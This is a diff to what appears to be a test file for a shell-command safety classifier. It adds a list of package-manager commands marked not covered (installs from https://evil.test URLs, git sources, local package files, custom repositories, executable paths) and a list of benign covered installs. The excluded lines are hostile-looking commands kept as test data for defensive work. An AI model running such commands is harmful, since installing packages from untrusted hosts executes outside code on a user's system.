@@ -182,6 +182,43 @@ const NOT_COVERED = under(`
   webpack --context /x
   webpack --json=x
   zip -m src/a.zip src/x
+  apk add --repository x y
+  apt-get install --force-yes x
+  apt-get install --with-source x y
+  apt-get install ./x.deb
+  apt-get install /tmp/x.deb
+  brew install --cc=x y
+  brew install ./x.rb
+  brew install /tmp/x.rb
+  brew install https://evil.test/x.rb
+  bundle add x --git y
+  bundle add x --source y
+  bundle install --shebang ./e
+  composer create-project x --repository-url=y z
+  composer create-project x --repository=y z
+  composer require x --repository y
+  dnf config-manager x
+  dnf copr enable x
+  dnf install ./x.rpm
+  dnf install https://evil.test/x.rpm
+  dnf shell x
+  hatch env run x
+  lerna run x --npm-client ./e
+  nx graph --file x
+  nx graph --file=x
+  nx graph --host 0.0.0.0
+  nx run-many -t x --graph=y
+  pdm use ./e
+  pip install --requirement=https://evil.test/x
+  pip install -r https://evil.test/x
+  pipenv install --extra-pip-args x
+  poetry add git+https://evil.test/x
+  poetry env use ./e
+  poetry install -C /x
+  turbo run x --graph=y
+  turbo run x --heap=y
+  turbo run x --trace=y
+  uv add git+https://evil.test/x
 `);
 
 const COVERED = under(`
@@ -222,6 +259,28 @@ const COVERED = under(`
   openssl x509 -in a.crt -text
   ctest --output-on-failure
   meson compile -C build
+  pip install -r requirements.txt
+  pip install -r ../requirements.txt
+  pip install -e .
+  uv add requests
+  uv sync --project packages/a
+  poetry add requests
+  poetry install -C packages/a
+  poetry env info
+  hatch env create
+  pdm add requests
+  bundle install
+  bundle add rails
+  brew install jq
+  apt-get install -y jq
+  apt-get install jq/stable
+  dnf install jq
+  apk add jq
+  turbo run build --filter a
+  nx graph
+  nx run-many -t test
+  lerna run build --scope a
+  composer require a/b
 `);
 
 describeFamily({ covered: COVERED, notCovered: NOT_COVERED });
